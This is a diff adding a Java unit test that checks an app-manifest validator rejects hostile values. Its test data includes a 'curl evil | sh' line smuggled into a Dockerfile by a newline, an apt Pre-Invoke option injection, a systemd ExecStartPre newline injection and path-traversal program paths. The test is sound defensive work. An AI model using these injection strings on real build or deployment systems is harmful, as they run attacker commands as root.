@@ -68,6 +68,56 @@ class SubjectCommandTest {
         assertThat(none.err()).contains("No subject '" + home.resolve("no-such-folder") + "': choose one of ").contains("flask-gallery");
     }
 
+    /**
+     * A manifest is data: every value that could become code where it goes (a Dockerfile's RUN line, a unit file, apt's
+     * options, a shell) is refused before anything runs, one line each that names the line and what is wrong. TOML's
+     * escapes make a newline, a tab or a NUL one character of a string, as an attacker would write them.
+     */
+    @Test
+    void hostileValuesAreRefusedOneLineEach() throws Exception {
+        String good = Files.readString(TestServer.projectRoot().resolve("subjects/flask-gallery/" + SubjectManifests.FILE));
+        String containerPackages = "[container]\npackages = [\"python3-flask\", \"gunicorn\"]";
+        String vmPackages = "[vm]\npackages = [\"python3-flask\", \"gunicorn\"]";
+        // A newline in a package would start a new Dockerfile instruction.
+        assertOneLine(check(good.replace(containerPackages, "[container]\npackages = [\"python3\\nRUN curl evil | sh\"]"), "app.py"),
+                "line 16: [container] packages: 'python3\\nRUN curl evil | sh' is not a Debian package's name");
+        // A package that starts with -o is an apt option that runs a command as root.
+        assertOneLine(check(good.replace(vmPackages, "[vm]\npackages = [\"-oAPT::Update::Pre-Invoke::=id\"]"), "app.py"),
+                "line 21: [vm] packages: '-oAPT::Update::Pre-Invoke::=id' is not a Debian package's name");
+        assertOneLine(check(good.replace(vmPackages, "[vm]\npackages = [\"Flask; id\"]"), "app.py"), "is not a Debian package's name");
+        // A newline in a variable's value would add ExecStartPre=+... to the unit, run as root in the guest.
+        assertOneLine(check(good.replace(vmPackages, vmPackages + "\nenv = { MODE = \"x\\nExecStartPre=+/bin/sh -c id\" }"), "app.py"),
+                "line 22: [vm] env: the value of MODE holds a control character");
+        assertOneLine(check(good.replace(containerPackages, containerPackages + "\nenv = { \"A-B\" = \"1\" }"), "app.py"),
+                "[container] env: 'A-B' is not a variable's name");
+        assertOneLine(check(good.replace("port_env = \"PORT\"", "port_env = \"PORT;id\""), "app.py"), "port_env 'PORT;id' is not a variable's name");
+        // The program is what systemd and env read first: + runs it as root, - is an option, a tab splits it.
+        assertOneLine(check(good.replace("[local]\ncommand = [\"gunicorn\"", "[local]\ncommand = [\"+/bin/sh\""), "app.py"),
+                "[local] command: the program '+/bin/sh' must be a name on PATH or a path in the app's folder");
+        assertOneLine(check(good.replace("[local]\ncommand = [\"gunicorn\"", "[local]\ncommand = [\"../../bin/sh\""), "app.py"),
+                "[local] command: the program '../../bin/sh' is outside the app's folder");
+        assertOneLine(check(good.replace("[local]\ncommand = [\"gunicorn\", \"--workers\", \"1\"",
+                "[local]\ncommand = [\"gunicorn\", \"--workers\", \"1\\u0000\""), "app.py"), "line 13: [local] command: an argument holds a control character");
+        assertOneLine(check(good.replace("field = \"file\"", "field = \"file\\\"; filename=\\\"x\""), "app.py"), "'s field 'file\"; filename=\"x' must be");
+        assertOneLine(check(good.replace("ready_path = \"/\"", "ready_path = \"/ x\""), "app.py"), "ready_path '/ x' must be a URL path");
+        assertOneLine(check(good.replace("files = [\"app.py\"]\ncommand = [\"gunicorn\", \"--workers\", \"1\", \"--bind\", \"${HOST}:${PORT}\", \"app:app\"]\n\n[vm]",
+                "files = [\"app.py\"]\ncommand = [\"gunicorn\", \"--workers\", \"1\", \"--bind\", \"${HOST}:${PORT}\", \"app:app\"]\n"
+                        + "dockerfile = \"../../Dockerfile\"\n\n[vm]"), "app.py"), "is outside the app's folder");
+        // What is fine stays fine: $, backticks, quotes, % and a leading - in an argument are one argument's text.
+        Path dir = Files.createTempDirectory(home, "subject-");
+        Files.writeString(dir.resolve(SubjectManifests.FILE), good.replace("\"--workers\", \"1\"",
+                "\"--workers\", \"1\", \"--name=$(id) `id` '%n' \\\"q\\\" $HOME ;\""));
+        Files.writeString(dir.resolve("app.py"), "print('hello')\n");
+        TestCli.Outcome fine = cli("subject", "check", dir.toString());
+        assertThat(fine.code()).as(fine.err()).isZero();
+    }
+
+    /** One line: the error names the file and says what is wrong, with no second line. */
+    private static void assertOneLine(String err, String says) {
+        assertThat(err.strip().lines()).as(err).hasSize(1);
+        assertThat(err).contains(says);
+    }
+
     /** Writes a manifest and one file into a folder of its own, checks it through the CLI, and returns the error (exit 2). */
     private String check(String manifest, String file) throws Exception {
         Path dir = Files.createTempDirectory(home, "subject-");
